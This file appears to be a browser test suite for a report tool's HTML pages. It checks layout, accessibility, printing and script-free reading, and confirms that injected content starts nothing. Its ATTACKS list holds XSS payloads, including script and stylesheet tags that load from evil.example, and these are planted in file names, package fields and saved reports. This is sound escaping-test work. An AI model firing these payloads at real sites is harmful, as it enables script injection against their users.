"""Pages of reports in a real browser: each command's HTML is loaded by headless Chromium on a phone, a small and a large
screen, in light and dark, with and without JavaScript, and printed; axe-core looks for what somebody could not use; and bundles,
servers and saved reports with script in every field are expected to start nothing.

The pictures are kept in `target/lab/pages`.
"""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path
from typing import Callable

import mistakes
from chromium import Chromium
from harness import BINARY, HOME, REPO, Mismatch, Part, archive, copy, must, run as execute, scratch, write

WIDTHS = (360, 800, 1400)
PICTURES = HOME / "pages"
AXE = HOME / "pages-tools"
AXE_VERSION = "axe-core@4"
# Text that would do something if it were anything but text.
ATTACKS = (
    "<script>window.sentinel=1;alert(1)</script>",
    '"><img src=x onerror="window.sentinel=1">',
    "</style></script><script src=//evil.example/x.js></script>",
    "<iframe src='javascript:parent.sentinel=1'></iframe><svg onload=window.sentinel=1>",
    '" autofocus onfocus="window.sentinel=1" x="',
    "<link rel=stylesheet href=http://evil.example/x.css><meta http-equiv=refresh content='0;url=http://evil.example'>",
)
NAMES = [attack.replace("/", "\u2215")[:200] for attack in ATTACKS]


def tools() -> str:
    """Chromium, and axe-core's source."""
    if not shutil.which("chromium"):
        must("apt-get", "update", "-qq")
        words = ("apt-get", "install", "-y", "-qq", "--no-install-recommends", "chromium", "fonts-dejavu-core")
        must(*words, DEBIAN_FRONTEND="noninteractive", timeout=900)
    source = AXE / "node_modules/axe-core/axe.min.js"
    if not source.exists():
        must("npm", "install", "--prefix", AXE, "--no-audit", "--no-fund", "--ignore-scripts", AXE_VERSION)
    return source.read_text()


def made(work: Path, name: str, *argv: object, codes: tuple[int, ...] = (0, 1)) -> Path:
    """The page that a command writes."""
    page = work / f"{name}.html"
    ran = execute(BINARY, *argv, "--no-config", "--format", "html", "-o", page)
    if ran.code not in codes:
        raise Mismatch(f"exited {ran.code}: {ran.text[:800]}")
    return page


def server(work: Path, words: str) -> Path:
    """A disk of a server, with these words wherever `doctor` reads some."""
    root = work / "root"
    write(root / "etc/os-release", f"PRETTY_NAME='{words}'\n".replace("\n'", "'"))
    write(root / "etc/hostname", "server\n")
    write(root / "etc/passwd", "root:x:0:0:root:/root:/bin/bash\n")
    unit = f"[Unit]\nDescription={words}\n[Service]\nWorkingDirectory=/root/.server-flow/agent-bundle/apps/agent\n"
    unit += f"ExecStart=/usr/bin/node dist/index.js --url 'http://{words}' {words}\nEnvironment=\"X={words}\"\n"
    write(root / "etc/systemd/system/server-flow-agent.service", unit)
    bundle = copy(mistakes.with_several(mistakes.clean_bundle(work / "clean"), work / "several"), work / "bundle")
    for name in NAMES:
        write(bundle / "dist" / f"{name}.pem", "-----BEGIN PRIVATE KEY-----\nx\n")
    (root / "root/.server-flow").mkdir(parents=True)
    shutil.move(bundle, root / "root/.server-flow/agent-bundle")
    return root


def release(work: Path, bundle: Path) -> Path:
    """A repository before a release that is wrong in many lines, under names that would do something."""
    repo = work / NAMES[0]
    (repo / "apps/agent").mkdir(parents=True)
    copy(bundle, repo / "apps/agent/bundle")
    write(repo / "apps/agent/package.json", json.dumps({"name": ATTACKS[1], "version": ATTACKS[2]}))
    write(repo / "apps/agent/install.sh", f"cat >/etc/systemd/system/server-flow-agent.service <<'E'\n[Service]\nExecStart={ATTACKS[0]}\nE\n")
    return repo


def rehearsed(work: Path) -> Path:
    """A bundle that dies with words that would do something."""
    bundle = mistakes.clean_bundle(work / "rehearsed")
    index = bundle / "dist/index.js"
    index.write_text(f"throw new Error({json.dumps(' '.join(ATTACKS))});\n{index.read_text()}")
    return bundle


def transaction(work: Path, command: str) -> Path:
    """The page of a saved report of `repair` or `update`, script in each of its texts."""
    text = " ".join(ATTACKS)
    step = {"what": text, "path": f"/{text}", "replaces": text, "undone": text}
    own = {"causes": [text]} if command == "repair" else {"from": text, "to": text}
    verdict = "not-repaired" if command == "repair" else "not-updated"
    document = {"schema_version": 1, "tool": {"name": "bundle-doctor", "version": "0.1.0"}, "command": command, "verdict": verdict, "unit": text}
    document |= {"plan": [step] * 9, "health": "broken", "why": [text], "kept": [f"/{text}"], **own}
    return made(work, f"saved-{command}", "report", write(work / f"saved-{command}.json", json.dumps(document)), codes=(1,))


def reports(work: Path) -> dict[str, Path]:
    """A page of every kind."""
    good = mistakes.clean_bundle(work / "good")
    bad = mistakes.with_several(good, work / "bad")
    for name in NAMES:
        write(bad / "dist" / f"{name}.key", "-----BEGIN PRIVATE KEY-----\nx\n")
    package = json.loads((bad / "package.json").read_text())
    package["dependencies"].update({attack: f"workspace:{attack}" for attack in ATTACKS})
    package["version"] = "1.0.0-" + "x" * 40
    write(bad / "package.json", json.dumps(package, indent=2))
    lines = "".join(f"import {json.dumps('./' + attack)};\n" for attack in ATTACKS)
    write(bad / "dist/index.js", lines)
    root = server(work / "server", "<script>window.sentinel=1</script>\"'><img src=x onerror=alert(1)>")
    pages = {
        "check-good": made(work, "check-good", "check", good),
        "check": made(work, "check", "check", bad),
        "check-several": made(work, "check-several", "check", good, bad, work / "bad"),
        "diff": made(work, "diff", "diff", good, bad, "--text"),
        "doctor": made(work, "doctor", "doctor", "--root", root),
        "release": made(work, "release", "release", release(work, bad)),
        "saved-release": saved(work, "saved-release", "release", work / NAMES[0]),
        "rehearse": made(work, "rehearse", "rehearse", rehearsed(work), "--generation", "preserving", codes=(1,)),
        "saved-rehearse": saved(work, "saved-rehearse", "rehearse", work / "rehearsed", "--generation", "preserving"),
        "saved-repair": transaction(work, "repair"),
        "saved-update": transaction(work, "update"),
        "saved-check": saved(work, "saved-check", "check", bad),
        "saved-doctor": saved(work, "saved-doctor", "doctor", "--root", root),
        "saved-diff": saved(work, "saved-diff", "diff", good, bad, "--text"),
        "fleet": fleet(work),
        "error": made(work, "error", "check", work / "<img src=x onerror=alert(1)>", codes=(2,)),
    }
    return pages


def poisoned(value: object, keep: tuple[str, ...]) -> object:
    """A saved report with script in each of its texts but those that are words of the program."""
    if isinstance(value, dict):
        return {key: one if key in keep else poisoned(one, keep) for key, one in value.items()}
    if isinstance(value, list):
        return [poisoned(one, keep) for one in value]
    return " ".join(ATTACKS) if isinstance(value, str) else value


# What is read as one of a few words, or as a time.
WORDS = ("schema_version", "tool", "command", "verdict", "severity", "status", "kind", "layout", "at", "changed",
         "active_since", "started", "state", "generation", "package_manager", "outcome")  # fmt: skip


def saved(work: Path, name: str, *argv: object) -> Path:
    """The page that `report` makes of a saved report with script in every field."""
    ran = execute(BINARY, *argv, "--no-config", "--json")
    document = poisoned(json.loads(ran.out), WORDS)
    path = write(work / f"{name}.json", json.dumps(document))
    return made(work, name, "report", path, codes=(0, 1, 3))


def fleet(work: Path) -> Path:
    """The page of 10,000 servers, some of which are called what nobody should be called."""
    root = server(work / "one", "x")
    document = json.loads(execute(BINARY, "doctor", "--root", root, "--no-config", "--json").out)
    diagnosis = document["diagnoses"][0]
    folder = work / "many"
    folder.mkdir()
    for number in range(10_000):
        document["host"]["hostname"] = f"{ATTACKS[number % len(ATTACKS)]}{number}" if number % 50 == 0 else f"server-{number}"
        document["verdict"] = ("healthy", "broken", "degraded")[0 if number % 10 else number // 10 % 3]
        diagnosis["cause"] = f"cause-{number // 10 % 70}"
        document["diagnoses"] = [] if document["verdict"] == "healthy" else [diagnosis]
        (folder / f"{number}.json").write_text(json.dumps(document) if number % 1000 else "")
    return made(work, "fleet", "report", folder, codes=(1,))


def quick(browser: Chromium, page: Path) -> None:
    """The page of 10,000 servers is small, loads at once, and most of it is folded away."""
    size = page.stat().st_size
    seconds = browser.open(page)
    folded = browser.evaluate("document.querySelectorAll('details:not([open])').length")
    print(f"    a fleet of 10,000: {size / 1000:.0f} kB, loaded in {seconds:.2f} s, {folded} groups folded", flush=True)
    if size > 500_000 or seconds > 5 or folded < 10:
        raise Mismatch(f"{size} bytes, {seconds:.2f} s, {folded} folded")


def fits(browser: Chromium, name: str, page: Path) -> None:
    """Nothing is wider than the screen, and the verdict is what one sees first."""
    for width in WIDTHS:
        browser.open(page, width=width)
        browser.picture(PICTURES / f"{name}-{width}.png")
        seen = browser.evaluate(
            "({ wide: document.documentElement.scrollWidth, screen: innerWidth,"
            " top: document.querySelector('h1 strong').getBoundingClientRect().top,"
            " bottom: document.querySelector('h1').getBoundingClientRect().bottom,"
            " words: document.querySelector('h1 strong').innerText })"
        )
        if seen["wide"] > seen["screen"] or seen["screen"] != width:
            raise Mismatch(f"at {width} pixels the page is {seen['wide']} wide")
        if seen["top"] > 300 or seen["bottom"] > 900 or not seen["words"].strip():
            raise Mismatch(f"at {width} pixels the verdict is not at the top: {seen}")


def usable(browser: Chromium, name: str, page: Path, axe: str) -> None:
    """axe-core has nothing to say, in light and dark, with everything opened."""
    for scheme in ("light", "dark"):
        browser.open(page, scheme=scheme)
        browser.evaluate("for (const one of document.querySelectorAll('details')) one.open = true")
        browser.picture(PICTURES / f"{name}-{scheme}.png")
        browser.evaluate(axe + "; 0")
        found = browser.evaluate(
            "axe.run().then((done) => ({ passed: done.passes.length, wrong: done.violations.map((one) =>"
            " `${one.id}: ${one.help}: ${one.nodes.slice(0, 2).map((node) => node.html.slice(0, 160)).join(' | ')}`) }))"
        )
        if found["wrong"] or found["passed"] < 10:
            raise Mismatch(f"{scheme}: {found}")


def harmless(browser: Chromium, page: Path) -> None:
    """Nothing of what stands in it is run, asked for or sent anywhere, and the policy has nothing to stop."""
    browser.open(page)
    browser.evaluate("for (const one of document.querySelectorAll('details')) one.open = true")
    browser.evaluate("document.querySelectorAll('main *').forEach((one) => { one.dispatchEvent(new Event('mouseover')); })")
    browser.evaluate("new Promise((done) => setTimeout(done, 200))")
    asked = browser.requests()
    if asked != [page.as_uri()]:
        raise Mismatch(f"it asks for {asked}")
    state = browser.evaluate(
        "({ sentinel: typeof window.sentinel, violations: window.__violations,"
        " elements: [...document.querySelectorAll('img, iframe, object, embed, link, form:not(.filter), base')]"
        ".map((one) => one.outerHTML.slice(0, 200)), scripts: document.scripts.length,"
        " handlers: [...document.querySelectorAll('*')].filter((one) =>"
        " [...one.attributes].some((attribute) => attribute.name.startsWith('on'))).length })"
    )
    if state != {"sentinel": "undefined", "violations": [], "elements": [], "scripts": 1, "handlers": 0}:
        raise Mismatch(str(state))
    complaints = [one["params"] for one in browser.events if one["method"] == "Log.entryAdded"]
    thrown = [one["params"] for one in browser.events if one["method"] == "Runtime.exceptionThrown"]
    if complaints or thrown:
        raise Mismatch(f"the console has {complaints} {thrown}"[:800])


def control(browser: Chromium, work: Path) -> None:
    """What these cases look for is found where it is: in a page that does all of it."""
    page = work / "control.html"
    for body in (
        "<script>window.sentinel=1</script>",
        "<img src=http://127.0.0.1:9/x>",
        "<p onclick='x'>x</p>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\"><script>1</script>",
        "<script>alert(1)</script>",
    ):
        write(page, f"<!DOCTYPE html><title>x</title><main>{body}</main><script>1</script>")
        try:
            harmless(browser, page)
        except Mismatch as found:
            # A dialog is answered, so that the browser goes on.
            if "dialog" in str(found):
                browser.call("Page.handleJavaScriptDialog", accept=True)
        else:
            raise Mismatch(f"nothing is found in {body}")


def without_script(browser: Chromium, page: Path) -> None:
    """Everything can be read without JavaScript: what is folded is opened by a click, and nothing offers what it cannot do."""
    browser.open(page, script=False)
    state = browser.evaluate(
        "({ offers: document.querySelectorAll('button, input').length,"
        " folded: document.querySelectorAll('details:not([open])').length })"
    )
    if state["offers"]:
        raise Mismatch(f"{state['offers']} buttons or boxes are there that do nothing")
    where = browser.evaluate(
        "(() => { const one = document.querySelector('details:not([open]) > summary'); if (!one) return null;"
        " one.scrollIntoView({block: 'center'}); const box = one.getBoundingClientRect();"
        " return {x: box.left + 12, y: box.top + box.height / 2}; })()"
    )
    if where:
        for kind in ("mousePressed", "mouseReleased"):
            browser.call("Input.dispatchMouseEvent", type=kind, button="left", clickCount=1, **where)
        left = browser.evaluate("document.querySelectorAll('details:not([open])').length")
        if left != state["folded"] - 1:
            raise Mismatch(f"a click opens nothing: {left} of {state['folded']} are folded still")


def on_paper(browser: Chromium, page: Path) -> None:
    """Printed, also without JavaScript, all of it is there, in black on white."""
    browser.open(page, scheme="dark", script=False)
    browser.media("print", "dark")
    state = browser.evaluate(
        "({ hidden: [...document.querySelectorAll('main p, main li, main pre')].filter((one) => !one.checkVisibility("
        "{contentVisibilityAuto: true})).length, back: getComputedStyle(document.documentElement).backgroundColor })"
    )
    if state != {"hidden": 0, "back": "rgb(255, 255, 255)"}:
        raise Mismatch(str(state))
    paper = browser.paper()
    if not paper.startswith(b"%PDF") or len(paper) < 5000:
        raise Mismatch(f"{len(paper)} bytes are no page on paper")


def filtered(browser: Chromium, page: Path) -> None:
    """The filter leaves what has the words, and gives everything back; a block is copied as it stands."""
    browser.open(page)
    shown = "[...document.querySelectorAll('main > .part')].filter((one) => one.checkVisibility()).length"
    before = browser.evaluate(shown)
    browser.evaluate("document.querySelector('#filter').focus()")
    browser.call("Input.insertText", text="workspace-protocol")
    browser.evaluate("new Promise((done) => setTimeout(done, 400))")
    during = browser.evaluate(shown)
    words = browser.evaluate("[...document.querySelectorAll('main > .part')].filter((one) => one.checkVisibility()).every((one) => one.textContent.includes('workspace-protocol'))")
    browser.evaluate("(() => { const box = document.querySelector('#filter'); box.value = ''; box.dispatchEvent(new Event('input')); })()")
    browser.evaluate("new Promise((done) => setTimeout(done, 400))")
    after = browser.evaluate(shown)
    if not 0 < during < before or after != before or not words:
        raise Mismatch(f"{before} parts, {during} while filtered ({words}), {after} afterwards")
    copied = browser.evaluate(
        "(() => { let copied = null; navigator.clipboard.writeText = async (text) => { copied = text; };"
        " const box = document.querySelector('.script'); box.querySelector('button').click();"
        " return new Promise((done) => setTimeout(() => done({ copied, shown: box.querySelector('pre').textContent,"
        " word: box.querySelector('button').textContent }), 200)); })()"
    )
    if copied["copied"] != copied["shown"] + "\n" or copied["word"] != "copied":
        raise Mismatch(str(copied))


def guide(work: Path) -> None:
    """Every command of docs/pages.md does what it says there."""
    here = work / "guide"
    here.mkdir()
    good = mistakes.clean_bundle(here / "good")
    archive(good, here / "agent-bundle.tar.gz")
    archive(mistakes.with_several(good, here / "bad"), here / "old.tar.gz")
    blocks = re.findall(r"```sh\n(.*?)```", (REPO / "docs/pages.md").read_text(), re.DOTALL)
    lines = [line for block in blocks for line in block.splitlines()]
    if len(lines) < 4:
        raise Mismatch(f"the page has {len(lines)} commands")
    for line in lines:
        ran = execute("bash", "-c", line.replace("bundle-doctor ", f"{BINARY} ", 1), cwd=here)
        if ran.code not in (0, 1, 3):
            raise Mismatch(f"`{line}` exited {ran.code}: {ran.text[:500]}")
    for name in ("check", "diff", "doctor"):
        if not (here / f"{name}.html").read_text().startswith("<!DOCTYPE html>"):
            raise Mismatch(f"{name}.html is no page")


def run(part: Part) -> None:
    axe = tools()
    PICTURES.mkdir(parents=True, exist_ok=True)
    with scratch("pages") as work:
        pages = reports(work)
        with Chromium(work) as browser:
            for name, page in pages.items():
                checks: dict[str, Callable[[], None]] = {
                    "fits a phone and a large screen": lambda n=name, p=page: fits(browser, n, p),
                    "is usable in light and dark": lambda n=name, p=page: usable(browser, n, p, axe),
                    "starts nothing": lambda p=page: harmless(browser, p),
                    "is read without JavaScript": lambda p=page: without_script(browser, p),
                    "is printed whole": lambda p=page: on_paper(browser, p),
                }
                for what, do in checks.items():
                    part.case(f"{name} {what}", do)
            part.case("the filter and the copy button", lambda: filtered(browser, pages["check"]))
            part.case("10,000 servers", lambda: quick(browser, pages["fleet"]))
            part.case("every command of the guide", lambda: guide(work))
            part.case("what is looked for is found", lambda: control(browser, work))
